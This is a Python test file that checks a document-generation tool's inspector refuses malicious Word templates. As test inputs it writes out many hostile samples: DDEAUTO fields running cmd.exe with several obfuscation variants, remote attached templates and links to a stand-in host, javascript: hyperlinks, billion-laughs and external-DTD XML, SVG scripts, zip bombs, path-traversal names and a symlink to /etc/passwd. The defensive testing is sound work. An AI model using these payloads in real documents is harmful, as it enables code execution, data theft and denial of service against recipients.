"""Templates made to do harm: each is refused with its own error, before anything else reads it."""

from __future__ import annotations

import io
import stat
import warnings
import zipfile
from typing import TYPE_CHECKING

import pytest
from docx import Document

from docgen.errors import ExitCode, TemplateError
from docgen.form import library
from docgen.template.compiler import compile_template
from docgen.template.ooxml.package import read_package
from docgen.template.security.inspection import inspect_template

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from docgen.form.definition import Form

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT, LINKS, TYPES = (
    "word/document.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
)
OLE_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
DEFLATED = zipfile.ZIP_DEFLATED
MAIN = "wordprocessingml.document.main+xml"


def zipped(entries: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return stream.getvalue()


def honest_parts() -> dict[str, bytes]:
    document = Document()
    document.add_paragraph("Nama: {{ name }}")
    stream = io.BytesIO()
    document.save(stream)
    return read_package(stream.getvalue())


def spoil_template(spoil: Callable[[dict[str, bytes]], None]) -> bytes:
    entries = honest_parts()
    spoil(entries)
    return zipped(entries)


def replace(name: str, old: str, new: str) -> Callable[[dict[str, bytes]], None]:
    def spoil(entries: dict[str, bytes]) -> None:
        assert old.encode() in entries[name]
        entries[name] = entries[name].replace(old.encode(), new.encode(), 1)

    return spoil


def body(xml: str) -> Callable[[dict[str, bytes]], None]:
    """Put XML before the section's properties."""
    return replace(DOCUMENT, "<w:sectPr", f"{xml}<w:sectPr")


def runs(*pieces: str) -> Callable[[dict[str, bytes]], None]:
    return body(f"<w:p>{''.join(f'<w:r>{piece}</w:r>' for piece in pieces)}</w:p>")


def settings(xml: str) -> Callable[[dict[str, bytes]], None]:
    return replace("word/settings.xml", "</w:settings>", f"{xml}</w:settings>")


def both(*changes: Callable[[dict[str, bytes]], None]) -> Callable[[dict[str, bytes]], None]:
    def spoil(entries: dict[str, bytes]) -> None:
        for change in changes:
            change(entries)

    return spoil


def link(kind: str, target: str, *, outside: bool = True) -> Callable[[dict[str, bytes]], None]:
    mode = ' TargetMode="External"' if outside else ""
    xml = f'<Relationship Id="bad" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
    return replace(LINKS, "</Relationships>", f"{xml}</Relationships>")


def part(name: str, content: bytes, kind: str | None) -> Callable[[dict[str, bytes]], None]:
    def spoil(entries: dict[str, bytes]) -> None:
        entries[name] = content
        if kind is not None:
            override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            replace(TYPES, "</Types>", override)(entries)

    return spoil


BEGIN, SEPARATE, END = (
    f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")
)


def code(text: str) -> str:
    return f'<w:instrText xml:space="preserve">{text}</w:instrText>'


def text(words: str) -> str:
    return f"<w:t>{words}</w:t>"


def field(*codes: str) -> Callable[[dict[str, bytes]], None]:
    return runs(BEGIN, *(code(each) for each in codes), SEPARATE, text("1"), END)


def prolog(xml: str) -> Callable[[dict[str, bytes]], None]:
    return replace(DOCUMENT, "<w:document", f"{xml}<w:document")


R_NAME = f'xmlns:r="{RELATIONS}"'
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
DRAWN_IN = {
    "a picture": ('<w:drawing><a:blip xmlns:a="http://a/main" ? r:link="bad"/></w:drawing>',
                  "template.linked_picture"),
    "a picture that says it is stored": (
        '<w:drawing><a:blip xmlns:a="http://a/main" ? r:embed="bad"/></w:drawing>',
        "template.linked_picture"),
    "a drawing of lines": (
        '<w:drawing><s:svgBlip xmlns:s="http://s" ? r:embed="bad"/></w:drawing>',
        "template.linked_picture"),
    "an old picture": (f'<w:pict><v:imagedata {VML} ? r:id="bad"/></w:pict>',
                       "template.linked_picture"),
    "an old picture by its other name": (
        f'<w:pict><v:imagedata {VML} {OFFICE} o:relid="bad"/></w:pict>',
        "template.linked_picture"),
    "an old filling": (f'<w:pict><v:fill {VML} ? r:id="bad"/></w:pict>',
                       "template.linked_picture"),
    "a chart": ('<w:drawing><c:chart xmlns:c="http://c/chart" ? r:id="bad"/></w:drawing>',
                "template.outside_link"),
    "a video": ('<w:drawing><a:videoFile xmlns:a="http://a/main" ? r:link="bad"/></w:drawing>',
                "template.outside_link"),
}  # fmt: skip

CONTROL = "application/vnd.ms-office.activeX+xml"
BILLION_LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
EXTERNAL_DTD = '<!DOCTYPE a SYSTEM "http://jahat.test/a.dtd">'
HUGE_TEXT = "".join(map(str, range(2_800_000)))
GIF = b"GIF89a" + b"\0" * 40

# What is wrong, how it comes into an honest template, and the code of its error.
MALICIOUS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "macros by type": (
        replace(TYPES, "vnd.openxmlformats-officedocument." + MAIN,
                "vnd.ms-word.document.macroEnabled.main+xml"), "template.macros"),
    "macros by part": (
        part("word/vbaProject.bin", OLE_FILE, "application/vnd.ms-office.vbaProject"),
        "template.macros"),
    "macros called a picture": (
        part("word/media/vbaProject.bin", OLE_FILE, "image/png"), "template.macros"),
    "macros by link": (
        both(part("word/x.xml", b"<a/>", "application/xml"),
             link("vbaProject", "x.xml", outside=False)), "template.macros"),
    "a macro in a form field": (
        runs('<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Jahat"/></w:ffData>'
             "</w:fldChar>", code("FORMTEXT"), END), "template.macros"),
    "an attached template": (
        link("attachedTemplate", "http://jahat.test/a.dotm"), "template.attached_template"),
    "an attached template on a share": (
        link("attachedTemplate", "file:///\\\\jahat\\a.dotm"), "template.attached_template"),
    "a linked picture": (link("image", "http://jahat.test/a.png"), "template.linked_picture"),
    "a linked picture in VML": (
        runs('<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
             '<v:imagedata src="http://jahat.test/a.png"/></v:shape></w:pict>'),
        "template.linked_picture"),
    "a linked object": (link("oleObject", "file:///C:/a.xlsx"), "template.linked_object"),
    "a linked package": (link("package", "http://jahat.test/a.xlsx"), "template.linked_object"),
    "a mail merge from the web": (
        link("mailMergeSource", "http://jahat.test/a.csv"), "template.mail_merge"),
    "a frame": (link("frame", "http://jahat.test/"), "template.frame"),
    "a set of frames": (body("<w:frameset/>"), "template.frame"),
    "a subdocument": (link("subDocument", "b.docx"), "template.subdocument"),
    "a stylesheet that saving runs": (
        link("transform", "http://jahat.test/a.xsl"), "template.stylesheet"),
    "a link of another kind": (link("video", "http://jahat.test/a.mp4"), "template.outside_link"),
    "a hyperlink to a script": (link("hyperlink", "javascript:alert(1)"), "template.hyperlink"),
    "a hyperlink to a protocol": (
        link("hyperlink", "ms-word:ofe|u|http://a"), "template.hyperlink"),
    "a hyperlink with a password": (link("hyperlink", "http://a:b@c.test"), "template.hyperlink"),
    **{
        f"a hyperlink used by {name}": (
            both(link("hyperlink", "http://jahat.test/a"), runs(xml.replace("?", R_NAME))),
            expected)
        for name, (xml, expected) in DRAWN_IN.items()
    },
    "an inside link that leads out": (
        link("styles", "../../a.xml", outside=False), "template.link_lie"),
    "an inside link with a host": (
        link("image", "http://jahat.test/a.png", outside=False), "template.link_lie"),
    "an inside link to a share": (
        link("image", "//jahat/a.png", outside=False), "template.link_lie"),
    "DDE": (field(" DDE cmd "), "template.field_dde"),
    "DDEAUTO": (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "template.field_dde"),
    "DDEAUTO over runs": (field("D", "DE", "AU", "TO cmd"), "template.field_dde"),
    "DDEAUTO in other capitals": (field("ddeAuto cmd"), "template.field_dde"),
    "DDEAUTO by character reference": (field("&#68;&#x44;EAUTO cmd"), "template.field_dde"),
    "DDEAUTO in fldSimple": (
        body('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'), "template.field_dde"),
    "DDE over paragraphs": (
        body(f"<w:p><w:r>{BEGIN}</w:r></w:p><w:p><w:r>{code('DDE cmd')}</w:r></w:p>"
             f"<w:p><w:r>{END}</w:r></w:p>"), "template.field_dde"),
    "DDE that never ends": (runs(BEGIN, code("DDE cmd")), "template.field_dde"),
    "DDE nested in IF": (
        runs(BEGIN, code(" IF 1 = 1 "), BEGIN, code("DDE cmd"), END, code(" x "), END),
        "template.field_dde"),
    "DDE in the outcome of another": (
        runs(BEGIN, code("PAGE"), SEPARATE, BEGIN, code("DDE cmd"), END, END),
        "template.field_dde"),
    "DDE spelt by QUOTE": (
        runs(BEGIN, BEGIN, code("QUOTE 68 68 69"), SEPARATE, text("DDE"), END, code(" cmd"), END),
        "template.field_hidden"),
    "DDE with its middle spelt by QUOTE": (
        runs(BEGIN, code("DD"), BEGIN, code("QUOTE 69"), END, code(" cmd"), END),
        "template.field_hidden"),
    "DDE behind a choice of Office": (
        runs(BEGIN, '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
             'markup-compatibility/2006"><mc:Choice Requires="w14">' + code("PAGE ")
             + "</mc:Choice><mc:Fallback>" + code("DDE cmd") + "</mc:Fallback>"
             "</mc:AlternateContent>", END), "template.field_hidden"),
    "DDE behind deleted code": (
        runs(BEGIN, "<w:delInstrText>PAGE </w:delInstrText>", code("DDE cmd"), END),
        "template.field_tracked"),
    "DDE made by a tag": (field("D{{ name }}E cmd"), "template.field_tagged"),
    "DDE behind a condition": (field("{% if x %}PAGE{% endif %} DDE cmd"), "template.field_tagged"),
    "DDE behind a condition between runs": (
        runs(BEGIN, text("{%r if x %}"), code("PAGE "), text("{%r endif %}"), code("DDE cmd"), END),
        "template.field_tagged"),
    "DDE behind half a tag": (
        runs(BEGIN, code("PAGE "), text("{{ a"), code(" DDE cmd"), text(" }}"), END),
        "template.field_tagged"),
    "code outside a field": (runs(code("DDE cmd")), "template.field_stray"),
    "INCLUDETEXT": (field('INCLUDETEXT "C:\\\\a.txt"'), "template.field_include"),
    "INCLUDEPICTURE": (field("INCLUDEPICTURE http://a.test/a.png"), "template.field_include"),
    "INCLUDEPICTURE over runs": (field("INCLUDE", "PICTURE x"), "template.field_include"),
    "INCLUDEPICTURE in fldSimple": (
        body('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x \\d"/></w:p>'),
        "template.field_include"),
    "IMPORT": (field("IMPORT x"), "template.field_include"),
    "LINK": (field("LINK Excel.Sheet.12 x"), "template.field_object"),
    "EMBED": (field("EMBED Package"), "template.field_object"),
    "PRINT": (field("PRINT 27"), "template.field_macro"),
    "DATABASE": (field("DATABASE x"), "template.field_database"),
    "a field nobody knows": (field("JAHAT x"), "template.field_unknown"),
    "a HYPERLINK made by a field": (
        runs(BEGIN, code("HYPERLINK "), BEGIN, code("QUOTE x"), END, END),
        "template.field_hidden"),
    "altChunk": (body('<w:altChunk xmlns:r="x" r:id="a"/>'), "template.altchunk"),
    "altChunk by link": (
        both(part("word/a.html", b"<p/>", "text/html"), link("aFChunk", "a.html", outside=False)),
        "template.altchunk"),
    "an embedded object": (
        runs('<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>'
             "</w:object>"), "template.embedded"),
    "an embedded package": (
        part("word/embeddings/a.xlsx", zipped({"a": b""}), "application/vnd.openxmlformats-"
             "officedocument.spreadsheetml.sheet"), "template.embedded"),
    "an object called a picture": (
        part("word/media/a.png", OLE_FILE, "image/png"),
        "template.embedded",
    ),
    "a control": (part("word/activeX/a.xml", b"<a/>", CONTROL), "template.control"),
    "a control by link": (
        both(part("word/a.xml", b"<a/>", "application/xml"),
             link("control", "a.xml", outside=False)), "template.control"),
    "a ribbon of its own": (
        both(part("word/a.xml", b"<a/>", "application/xml"),
             link("ui/extensibility", "a.xml", outside=False)), "template.control"),
    "a program": (part("word/media/a.exe", b"MZ\x90", "image/png"), "template.program"),
    "a script in a picture": (
        part("word/media/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
             "image/svg+xml"), "template.script"),
    "a picture that acts": (
        part("word/media/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
             "image/svg+xml"), "template.script"),
    "a video from the web": (body('<w:p><wp15:webVideoPr xmlns:wp15="x"/></w:p>'),
                             "template.web_video"),
    "a DOCTYPE": (prolog(EXTERNAL_DTD), "template.doctype"),
    "entities": (prolog(BILLION_LAUGHS), "template.doctype"),
    "a DOCTYPE in UTF-16": (
        part("word/a.xml", "<!DOCTYPE a><a/>".encode("utf-16"), "application/xml"),
        "template.doctype"),
    "a DOCTYPE far behind": (
        prolog(f"<!--{'x' * 9000}-->{EXTERNAL_DTD}"), "template.doctype"),
    "another encoding": (
        part("word/a.xml", b"<?xml version='1.0' encoding='UTF-7'?><a/>", "application/xml"),
        "template.encoding"),
    "no XML": (part("word/a.xml", b"<a><b></a>", "application/xml"), "template.not_xml"),
    "XML without end": (
        part("word/a.xml", b"<a>" + b"<b>" * 100_000, "application/xml"), "template.too_deep"),
    "tables in each other": (part(
        "word/a.xml", b"<tbl><tr><tc>" * 99 + b"</tc></tr></tbl>" * 99, "application/xml"),
        "template.too_deep"),
    "an element of many attributes": (
        body("<w:p " + " ".join(f'a{number}=""' for number in range(600)) + "/>"),
        "template.attributes_many"),
    "a part too large": (
        part("word/a.xml", b"<a>%s</a>" % HUGE_TEXT.encode(), "application/xml"),
        "template.part_large"),
    "a stylesheet": (
        prolog('<?xml-stylesheet type="text/xsl" href="http://jahat.test/a.xsl"?>'),
        "template.instruction"),
    "a mark of ours": (body("<?docgen 7?>"), "template.instruction"),
    "a schema": (
        replace(DOCUMENT, "<w:body>", '<w:body><w:p xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
                'instance" xsi:schemaLocation="a http://jahat.test/a.xsd"/>'), "template.schema"),
    "a picture that is text": (part("word/media/a.png", b"<a/>", "image/png"), "template.kind_lie"),
    "a text that is a picture": (part("word/a.xml", GIF, "application/xml"), "template.kind_lie"),
    "a part of no kind": (part("word/a.jahat", b"x", None), "template.undeclared"),
    "a part of a strange kind": (
        part("word/a.html", b"x", "text/html"), "template.kind_lie"),
    "a template of Word": (
        replace(TYPES, MAIN, "wordprocessingml.template.main+xml"), "template.not_docx"),
}  # fmt: skip


@pytest.mark.parametrize(("spoil", "expected"), MALICIOUS.values(), ids=MALICIOUS)
def test_a_malicious_template_is_refused(
    spoil: Callable[[dict[str, bytes]], None], expected: str
) -> None:
    with pytest.raises(TemplateError) as refused:
        compile_template(spoil_template(spoil))

    assert expected in {problem.code for problem in refused.value.problems}
    assert refused.value.exit_code == ExitCode.BAD_TEMPLATE
    assert all(problem.part for problem in refused.value.problems)


UNSEEN = {
    "the address of a field": field(' HYPERLINK "https://a.test/?q={{ name }}" '),
    "the address of a mail": field(' HYPERLINK "mailto:a@b.test?subject={{ name }}" '),
    "a code of bars": field(' DISPLAYBARCODE "{{ name }}" QR '),
    "the code of another field": field(" QUOTE {{ name }} "),
    "the code of a field over runs": field(" QUOTE {", "{ name }", "} "),
    "a simple field": body('<w:p><w:fldSimple w:instr=" REF {{ name }} "/></w:p>'),
    "a picture's description": runs(
        '<w:drawing><wp:docPr xmlns:wp="http://wp" id="1" name="a" descr="{{ name }}"/></w:drawing>'
    ),
    "a picture's title": runs(
        '<w:drawing><wp:docPr xmlns:wp="http://wp" id="1" name="a" title="{{ name }}"/></w:drawing>'
    ),
    "an old shape's description": runs(f'<w:pict><v:shape {VML} alt="{{{{ name }}}}"/></w:pict>'),
    "an old shape's address": runs(
        f'<w:pict><v:shape {VML} href="https://a.test/%7B%7Bname%7D%7D"/></w:pict>'
    ),
    "a bookmark": body('<w:p><w:bookmarkStart w:id="1" w:name="{{ name }}"/></w:p>'),
    "a control's title": body(
        '<w:sdt><w:sdtPr><w:alias w:val="{{ name }}"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent>'
        "</w:sdt>"
    ),
    "a tip": body('<w:p><w:hyperlink w:anchor="a" w:tooltip="{{ name }}"/></w:p>'),
    "deleted text": body(
        '<w:p><w:del w:id="1"><w:r><w:delText>{{ name }}</w:delText></w:r></w:del></w:p>'
    ),
    "hidden text": body("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{{ name }}</w:t></w:r></w:p>"),
    "hidden text over runs": body(
        "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{</w:t></w:r>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>{ name }}</w:t></w:r></w:p>"
    ),
    "text that a style hides": both(
        replace("word/styles.xml", "</w:styles>",
                '<w:style w:styleId="a"><w:rPr><w:vanish/></w:rPr></w:style>'
                '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'),
        body('<w:p><w:pPr><w:pStyle w:val="b"/></w:pPr><w:r><w:t>{{ name }}</w:t></w:r></w:p>'),
    ),
}  # fmt: skip


@pytest.mark.parametrize("spoil", UNSEEN.values(), ids=UNSEEN)
def test_a_tag_that_prints_where_nobody_looks_is_refused(
    spoil: Callable[[dict[str, bytes]], None],
) -> None:
    with pytest.raises(TemplateError) as refused:
        compile_template(spoil_template(spoil))

    codes = {problem.code for problem in refused.value.problems}
    assert codes & {"template.tag_unseen", "template.field_tagged"}


SEEN = {
    "a hidden condition": body(
        "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{% if name %}</w:t></w:r><w:r><w:t>a</w:t></w:r>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>{% endif %}</w:t></w:r></w:p>"
    ),
    "hiding switched off": body(
        '<w:p><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>{{ name }}</w:t></w:r></w:p>'
    ),
    "hidden words beside a tag": body(
        "<w:p><w:r><w:t>{{ name }}</w:t></w:r>"
        "<w:r><w:rPr><w:vanish/></w:rPr><w:t>a</w:t></w:r></w:p>"
    ),
    "a web address": link("hyperlink", "https://kemensos.go.id"),
    "braces in a description": runs(
        '<w:drawing><wp:docPr xmlns:wp="http://wp" id="1" name="a" descr="{a} {1}"/></w:drawing>'
    ),
    "an id of Office": body(
        '<w:sdt><w:sdtPr><w:dataBinding w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/>'
        "</w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"
    ),
    "a tag inserted by a reviewer": body(
        '<w:p><w:ins w:id="1"><w:r><w:t>{{ name }}</w:t></w:r></w:ins></w:p>'
    ),
    "a tag as the outcome of a link": runs(
        BEGIN, code(' HYPERLINK "https://kemensos.go.id" '), SEPARATE, text("{{ name }}"), END
    ),
}


@pytest.mark.parametrize("change", SEEN.values(), ids=SEEN)
def test_what_only_looks_like_an_unseen_tag_is_taken(
    change: Callable[[dict[str, bytes]], None],
) -> None:
    compile_template(spoil_template(change)).render({"name": "a"})


def renamed(old: str, new: str) -> bytes:
    """Return a package with an entry that the zip writer would not name so."""
    stand_in = old.ljust(len(new), "x")
    return zipped(honest_parts() | {stand_in: b"x"}).replace(stand_in.encode(), new.encode())


NAMES = {
    "../../a.xml": "template.name_climbs",
    "word/%2e%2e/%2e%2e/../a.xml": "template.name_climbs",
    "/etc/a.xml": "template.name_absolute",
    "word\\..\\..\\a.xml": "template.name_climbs",
    "%5cword%5ca.xml": "template.name_absolute",
    "word\\document.xml": "template.entry_twice",
    "C:a.xml": "template.name_drive",
    "word/a.xml\0.png": "template.name_control",
    "word/con.xml": "template.name_alias",
    "word/a.xml. ": "template.name_alias",
    "word//a.xml": "template.name_alias",
    "WORD/document.xml": "template.entry_twice",
    "word/d%6fcument.xml": "template.entry_twice",
}


@pytest.mark.parametrize(("name", "expected"), NAMES.items(), ids=map(repr, NAMES))
def test_a_path_trick_is_refused(name: str, expected: str) -> None:
    with pytest.raises(TemplateError) as refused:
        compile_template(renamed("q", name))

    assert [problem.code for problem in refused.value.problems] == [expected]


def test_an_entry_twice_is_refused() -> None:
    stream = io.BytesIO(zipped(honest_parts()))
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(DOCUMENT, b"<a/>")

    with pytest.raises(TemplateError) as refused:
        compile_template(stream.getvalue())

    assert [problem.code for problem in refused.value.problems] == ["template.entry_twice"]


def with_entry(
    entry: zipfile.ZipInfo, content: bytes, packing: int = zipfile.ZIP_DEFLATED
) -> bytes:
    stream = io.BytesIO(zipped(honest_parts()))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(entry, content, packing)
    return stream.getvalue()


def link_entry() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/link.xml")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def flagged(bits: int) -> bytes:
    content = bytearray(zipped(honest_parts()))
    content[content.index(b"PK\x01\x02") + 8] |= bits
    return bytes(content)


PACKAGES: dict[str, tuple[Callable[[], bytes], str]] = {
    "a link": (lambda: with_entry(link_entry(), b"/etc/passwd"), "template.entry_link"),
    "another packing": (
        lambda: with_entry(zipfile.ZipInfo("word/a.xml"), b"x", zipfile.ZIP_LZMA),
        "template.entry_packing",
    ),
    "a zip bomb": (
        lambda: zipped(honest_parts() | {"word/a.xml": b"\0" * 50_000_000}), "template.zip_bomb"),
    "many small bombs": (
        lambda: zipped(honest_parts() | {f"word/{n}.xml": b"\0" * 2**20 for n in range(140)}),
        "template.unpacks_large"),
    "too many entries": (
        lambda: zipped({f"{number}.xml": b"" for number in range(2001)}),
        "template.too_many_entries"),
    "an encrypted entry": (lambda: flagged(0x1), "template.entry_encrypted"),
    "strong encryption": (lambda: flagged(0x40), "template.entry_encrypted"),
}  # fmt: skip


@pytest.mark.parametrize(("make", "expected"), PACKAGES.values(), ids=PACKAGES)
def test_a_malicious_package_is_refused(make: Callable[[], bytes], expected: str) -> None:
    with pytest.raises(TemplateError) as refused:
        compile_template(make())

    assert [problem.code for problem in refused.value.problems] == [expected]


def test_an_encrypted_document_is_distinguished_from_an_old_one() -> None:
    with pytest.raises(TemplateError, match="password"):
        compile_template(OLE_FILE + "EncryptedPackage".encode("utf-16-le"))
    with pytest.raises(TemplateError, match=r"old \.doc"):
        compile_template(OLE_FILE)


def test_an_entry_that_says_less_than_it_holds_gives_no_more() -> None:
    content = bytearray(zipped({"a.xml": b"x" * 5000}))
    at = content.index(b"PK\x01\x02") + 24
    content[at : at + 4] = (10).to_bytes(4, "little")

    with pytest.raises(TemplateError, match="not a readable"):
        read_package(bytes(content))


def test_each_malicious_template_has_an_error_of_its_own_kind() -> None:
    codes = {expected for _, expected in (*MALICIOUS.values(), *PACKAGES.values())}

    assert len(codes | set(NAMES.values())) > 40


HONEST: dict[str, Callable[[dict[str, bytes]], None]] = {
    "a web address": link("hyperlink", "https://kemensos.go.id/layanan?a=1#b"),
    "a mail address": link("hyperlink", "mailto:dinsos@contoh.go.id"),
    "a number": link("hyperlink", "tel:+62211234567"),
    "page numbers": field(" PAGE "),
    "page numbers in fldSimple": body('<w:p><w:fldSimple w:instr=" NUMPAGES \\* ROMAN"/></w:p>'),
    "a date": field(' DATE \\@ "d MMMM yyyy" '),
    "a table of contents": runs(
        BEGIN, code(' TOC \\o "1-3" \\h '), SEPARATE, BEGIN, code("PAGEREF _Toc1 \\h"), SEPARATE,
        text("1"), END, END,
    ),
    "a field in IF": runs(BEGIN, code(" IF "), BEGIN, code("PAGE"), END, code(' = 1 "a" '), END),
    "a link in the text": field('HYPERLINK \\l "bab1" \\o "Bab 1"'),
    "an address in the text": field('HYPERLINK "https://kemensos.go.id" \\t "_blank"'),
    "tags around a field": runs(
        text("{% if name %}"), BEGIN, code("PAGE"), SEPARATE, text("{{ name }}"), END,
        text("{% endif %}"),
    ),
    "a picture": part("word/media/a.gif", GIF, "image/gif"),
    "data of an office": part(
        "customXml/item1.xml",
        b'<?mso-contentType?><xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
        b'<xsd:import schemaLocation="http://dublincore.org/a.xsd"/></xsd:schema>',
        "application/xml",
    ),
}  # fmt: skip


@pytest.mark.parametrize("change", HONEST.values(), ids=HONEST)
def test_an_honest_template_is_taken(change: Callable[[dict[str, bytes]], None]) -> None:
    assert inspect_template(spoil_template(change)).problems == ()


@pytest.mark.parametrize("form", library.list_forms(), ids=lambda form: form.id)
def test_every_shipped_template_is_taken(form: Form) -> None:
    assert inspect_template(library.read_template(form)).problems == ()


def test_all_that_is_wrong_is_reported_at_once_and_with_its_place() -> None:
    def spoil(entries: dict[str, bytes]) -> None:
        link("attachedTemplate", "http://jahat.test/a.dotm")(entries)
        field("DDE cmd")(entries)
        body("<w:p><w:r><w:t>{{ name.__class__ }}</w:t></w:r></w:p>")(entries)

    with pytest.raises(TemplateError) as refused:
        compile_template(spoil_template(spoil))

    assert {(problem.code, problem.part, problem.place) for problem in refused.value.problems} == {
        ("template.attached_template", LINKS, None),
        ("template.field_dde", DOCUMENT, "paragraph 2"),
        ("template.forbidden", DOCUMENT, "paragraph 3"),
    }


ILLEGIBLE: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "an open tag": (runs(text("{{ name")), "template.syntax"),
    "a tag over two paragraphs": (
        body("<w:p><w:r><w:t>{{ name</w:t></w:r></w:p><w:p><w:r><w:t>}}</w:t></w:r></w:p>"),
        "template.syntax"),
    "a tag in a tag": (runs(text("{{ a {{ name }} }}")), "template.syntax"),
    "a tag without end in an attribute": (
        body('<w:p w:hint="{{ name"/>'), "template.syntax"),
    "a long tag": (runs(text("{{ name " + "~ name " * 400 + "}}")), "template.tag_long"),
    "a long blank": (runs(text("{% colspan" + " " * 900 + "x %}")), "template.tag_blank"),
    "a long blank over runs": (
        runs(text("{% colspan" + " " * 30), text(" " * 30 + "x %}")), "template.tag_blank"),
    "deep brackets": (runs(text("{{ " + "[" * 30 + "]" * 30 + " }}")), "template.tag_deep"),
    "many tags": (runs(text("{{ name }}" * 5001)), "template.tags_many"),
    "a cell with its properties twice": (
        body("<w:tbl><w:tr><w:tc><w:tcPr/><w:tcPr/><w:p/></w:tc></w:tr></w:tbl>"),
        "template.cell_twice"),
}  # fmt: skip


@pytest.mark.parametrize(("spoil", "expected"), ILLEGIBLE.values(), ids=ILLEGIBLE)
def test_tags_that_would_keep_their_reader_busy_are_refused(
    spoil: Callable[[dict[str, bytes]], None], expected: str
) -> None:
    with pytest.raises(TemplateError) as refused:
        compile_template(spoil_template(spoil))

    codes = [problem.code for problem in refused.value.problems]
    assert [code for code in codes if code != "template.tag_unseen"] == [expected]
    assert refused.value.problems[0].place is not None
